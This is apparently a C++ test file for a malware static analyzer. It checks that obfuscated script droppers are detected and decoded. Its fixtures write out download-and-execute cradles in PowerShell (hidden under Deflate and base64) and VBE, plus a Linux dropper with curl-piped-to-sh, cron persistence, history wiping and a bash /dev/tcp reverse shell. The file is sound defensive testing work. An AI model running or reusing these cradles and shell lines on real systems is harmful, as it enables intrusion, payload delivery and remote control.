// Scripts through the whole static stage: identification, StaticResult.script, the decoded code's
// indicators, decoded executables as children, and the signatures of rules/signatures/script.yaml.
// Fixtures are written here (a VBE encoded by the test encoder, PowerShell with a Deflate layer
// made by zlib) or are real droppers from ../shared/corpora/inquest-docs, read in memory.
#include <zlib.h>

#include <algorithm>
#include <catch2/catch.hpp>
#include <string>

#include "../../script/tests/script_encoder_support.h"
#include "kensa/archive/archive_reader.h"
#include "kensa/core/file.h"
#include "kensa/static_analysis/static_analyzer.h"

namespace kensa::static_analysis {
namespace {

const StaticAnalyzer& Analyzer() {
  static const std::unique_ptr<StaticAnalyzer> analyzer = [] {
    std::vector<std::string> warnings;
    auto created = StaticAnalyzer::Create(StaticConfig{}, &warnings);
    REQUIRE(created.has_value());
    return std::move(*created);
  }();
  return *analyzer;
}

bool HasAnomaly(const analysis::v1::StaticResult& result, const std::string& code) {
  return std::any_of(result.anomalies().begin(), result.anomalies().end(),
                     [&](const auto& anomaly) { return anomaly.code() == code; });
}

bool HasSignature(const analysis::v1::StaticResult& result, const std::string& name) {
  return std::any_of(result.signatures().begin(), result.signatures().end(),
                     [&](const auto& signature) { return signature.name() == name; });
}

bool HasUrl(const analysis::v1::StaticResult& result, const std::string& url) {
  return std::any_of(result.indicators().begin(), result.indicators().end(), [&](const auto& i) {
    return i.type() == analysis::v1::INDICATOR_TYPE_URL && i.value() == url;
  });
}

ByteSpan AsBytes(const std::string& s) { return {reinterpret_cast<const std::uint8_t*>(s.data()), s.size()}; }

Bytes InquestMember(const std::string& zip, const std::string& suffix) {
  auto zip_bytes = ReadFileBounded("../shared/corpora/inquest-docs/" + zip, 64u << 20);
  REQUIRE(zip_bytes.has_value());
  auto listing = archive::ReadArchive(*zip_bytes, {"infected"}, archive::ArchiveLimits{});
  REQUIRE(listing.has_value());
  for (auto& member : listing->members) {
    if (member.name.ends_with(suffix)) return std::move(member.data);
  }
  FAIL("no member " << suffix);
  return {};
}

std::string RawDeflateBase64(std::string_view text) {
  z_stream stream{};
  REQUIRE(deflateInit2(&stream, 9, Z_DEFLATED, -15, 8, Z_DEFAULT_STRATEGY) == Z_OK);
  std::string out(deflateBound(&stream, text.size()) + 64, '\0');
  stream.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(text.data()));
  stream.avail_in = static_cast<uInt>(text.size());
  stream.next_out = reinterpret_cast<Bytef*>(out.data());
  stream.avail_out = static_cast<uInt>(out.size());
  REQUIRE(deflate(&stream, Z_FINISH) == Z_STREAM_END);
  out.resize(stream.total_out);
  deflateEnd(&stream);
  static constexpr char kAlphabet[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string b64;
  std::size_t i = 0;
  for (; i + 2 < out.size(); i += 3) {
    const auto n = (static_cast<std::uint32_t>(static_cast<std::uint8_t>(out[i])) << 16) |
                   (static_cast<std::uint32_t>(static_cast<std::uint8_t>(out[i + 1])) << 8) |
                   static_cast<std::uint8_t>(out[i + 2]);
    b64 += {kAlphabet[n >> 18], kAlphabet[(n >> 12) & 63], kAlphabet[(n >> 6) & 63], kAlphabet[n & 63]};
  }
  if (i + 1 == out.size()) {
    const auto n = static_cast<std::uint32_t>(static_cast<std::uint8_t>(out[i])) << 16;
    b64 += {kAlphabet[n >> 18], kAlphabet[(n >> 12) & 63], '=', '='};
  } else if (i + 2 == out.size()) {
    const auto n = (static_cast<std::uint32_t>(static_cast<std::uint8_t>(out[i])) << 16) |
                   (static_cast<std::uint32_t>(static_cast<std::uint8_t>(out[i + 1])) << 8);
    b64 += {kAlphabet[n >> 18], kAlphabet[(n >> 12) & 63], kAlphabet[(n >> 6) & 63], '='};
  }
  return b64;
}

TEST_CASE("PowerShell with a Deflate layer under a $PSHome iex: the download inside is found") {
  const std::string cradle =
      "$c = New-Object Net.WebClient; $c.DownloadFile('http://192.0.2.44/update.exe', \"$env:TEMP\\u.exe\"); "
      "Start-Process \"$env:TEMP\\u.exe\"";
  const std::string script = ".( $PSHome[4]+$PSHome[30]+'x') (New-Object IO.StreamReader((New-Object "
                             "IO.Compression.DeflateStream([IO.MemoryStream][Convert]::FromBase64String('" +
                             RawDeflateBase64(cradle) +
                             "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()";
  auto result = Analyzer().Analyze(AsBytes(script), "update.ps1");
  REQUIRE(result.has_value());
  CHECK(result->sample().file_type().format() == "script");
  CHECK(result->script().language() == "powershell");
  CHECK(result->script().source() == "sample");
  CHECK(result->script().deobfuscated().find(cradle) != std::string::npos);
  CHECK(HasUrl(*result, "http://192.0.2.44/update.exe"));
  CHECK(HasSignature(*result, "script_download_cradle"));
  CHECK(HasSignature(*result, "script_powershell_execution"));
  CHECK(HasSignature(*result, "script_obfuscated"));
  bool deflate = false;
  for (const auto& layer : result->script().layers()) deflate = deflate || layer.kind() == "deflate";
  CHECK(deflate);
}

TEST_CASE("A VBE encoded here decodes: its XMLHTTP download, URL and WScript.Shell run are found") {
  const std::string vbs =
      "Set x = CreateObject(\"MSXML2.XMLHTTP\")\r\n"
      "x.Open \"GET\", \"http://198.51.100.20/a.exe\", False\r\nx.Send\r\n"
      "Set s = CreateObject(\"ADODB.Stream\")\r\ns.Type = 1: s.Open: s.Write x.ResponseBody\r\n"
      "s.SaveToFile \"C:\\Users\\Public\\a.exe\", 2\r\n"
      "CreateObject(\"WScript.Shell\").Run \"C:\\Users\\Public\\a.exe\", 0\r\n";
  const std::string vbe = script::testing::EncodeScript(vbs);
  auto result = Analyzer().Analyze(AsBytes(vbe), "invoice.vbe");
  REQUIRE(result.has_value());
  REQUIRE(result->sample().file_type().format() == "script");
  CHECK(result->sample().file_type().tags(0) == "vbe");
  CHECK(result->script().language() == "vbe");
  CHECK(result->script().deobfuscated() == vbs);
  CHECK(HasUrl(*result, "http://198.51.100.20/a.exe"));
  CHECK(HasAnomaly(*result, "script_download_cradle"));
  CHECK(HasSignature(*result, "script_vbscript_execution"));
  CHECK(HasSignature(*result, "script_download_cradle"));
}

TEST_CASE("Emotet's PowerShell dropper: the URLs hidden by .replace become indicators") {
  const Bytes file = InquestMember("2019-06-Emotet-Droppers.zip",
                                   "unique_powershell/c037df32b92d22d5b56b7afbad9e4dfc5b8b8a3b93d57f9a2ebdcb4ec7c93b9c");
  const std::string dropper(file.begin(), std::find(file.begin(), file.end(), '\n'));
  auto result = Analyzer().Analyze(AsBytes(dropper), "dropper.ps1");
  REQUIRE(result.has_value());
  CHECK(HasUrl(*result, "http://japanijob.com/uuc8iefifb"));
  CHECK(HasUrl(*result, "http://103.11.22.51/wp-content/uploads/yoarkx9"));
  CHECK(HasSignature(*result, "script_download_cradle"));
}

TEST_CASE("The steganography stage-2 script: its embedded .NET loader becomes a child sample") {
  const Bytes stage2 = InquestMember("2019-03-PowerShell-Obfuscation-Encryption-Steganography.zip", "/2. stage2.ps1.bin");
  std::vector<ExtractedChild> children;
  auto result = Analyzer().Analyze(stage2, "stage2.ps1", AnalyzeOptions{}, &children);
  REQUIRE(result.has_value());
  REQUIRE(children.size() == 1);
  CHECK(children[0].info.origin() == "script base64");
  CHECK(children[0].info.sha256() == "6847b98f36e96c3d967524811409e164746bea5ae021d44fbd6c7bfefe072582");
  CHECK(children[0].info.name() == "stage2.ps1.payload_1.bin");
  CHECK(HasSignature(*result, "script_embedded_executable"));
  CHECK(HasSignature(*result, "script_obfuscated"));
}

TEST_CASE("An ordinary PowerShell script raises no script signature") {
  const std::string script =
      "param([string]$Path = '.')\r\n"
      "Get-ChildItem -Path $Path -Recurse | Where-Object { $_.Length -gt 1MB } | Sort-Object Length |\r\n"
      "  ForEach-Object { Write-Host (\"{0,-60} {1,10}\" -f $_.FullName, $_.Length) }\r\n";
  auto result = Analyzer().Analyze(AsBytes(script), "list.ps1");
  REQUIRE(result.has_value());
  CHECK(result->sample().file_type().format() == "script");
  for (const auto& signature : result->signatures()) {
    INFO(signature.name());
    CHECK_FALSE(signature.name().starts_with("script_"));
  }
}

TEST_CASE("A Linux dropper script: download piped into a shell, reverse shell, cron, history wiped") {
  // What a miner or IRC bot's installer on a web server looks like, its stage 2 under base64.
  const std::string stage2 = "crontab -l | { cat; echo '*/5 * * * * /tmp/.x/k'; } | crontab -\nhistory -c\n";
  static constexpr char kBase64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
  std::string encoded;
  for (std::size_t i = 0; i < stage2.size(); i += 3) {
    const std::uint32_t chunk = (static_cast<std::uint8_t>(stage2[i]) << 16) |
                                (i + 1 < stage2.size() ? static_cast<std::uint8_t>(stage2[i + 1]) << 8 : 0) |
                                (i + 2 < stage2.size() ? static_cast<std::uint8_t>(stage2[i + 2]) : 0);
    encoded += kBase64[(chunk >> 18) & 63];
    encoded += kBase64[(chunk >> 12) & 63];
    encoded += i + 1 < stage2.size() ? kBase64[(chunk >> 6) & 63] : '=';
    encoded += i + 2 < stage2.size() ? kBase64[chunk & 63] : '=';
  }
  const std::string script = "#!/bin/sh\n"
                             "cd /tmp && wget -q http://198.51.100.23/k -O /tmp/.x/k && chmod +x /tmp/.x/k\n"
                             "curl -fsSL http://update.kensa-test.jp/i.sh | sh\n"
                             "echo " + encoded + " | base64 -d | sh\n"
                             "bash -i >& /dev/tcp/198.51.100.23/4444 0>&1\n";
  auto result = Analyzer().Analyze(AsBytes(script), "install.sh");
  REQUIRE(result.has_value());
  INFO(result->DebugString());
  CHECK(result->script().language() == "shell");
  CHECK(HasAnomaly(*result, "script_download_unix"));
  CHECK(HasAnomaly(*result, "script_execution_shell"));
  CHECK(HasSignature(*result, "script_reverse_shell"));
  // The cron entry and the wiped history are in the base64 stage only.
  CHECK(HasSignature(*result, "script_persistence_unix"));
  CHECK(HasSignature(*result, "script_defense_evasion"));
  CHECK(HasUrl(*result, "http://update.kensa-test.jp/i.sh"));
  bool decoded = false;
  for (const auto& layer : result->script().layers()) decoded |= layer.kind() == "base64";
  CHECK(decoded);
}

TEST_CASE("A shell script that only downloads, like an installer, stays at most low") {
  // SigmaHQ's own CI helper fetches tools with wget and runs them.
  auto bytes = ReadFileBounded("../shared/corpora/sigma/tests/check-baseline-local.sh", 1 << 20);
  REQUIRE(bytes.has_value());
  auto result = Analyzer().Analyze(*bytes, "check-baseline-local.sh");
  REQUIRE(result.has_value());
  CHECK(result->script().language() == "shell");
  for (const auto& signature : result->signatures()) {
    INFO(signature.name());
    CHECK(signature.severity() <= analysis::v1::SEVERITY_LOW);
  }
}

}  // namespace
}  // namespace kensa::static_analysis
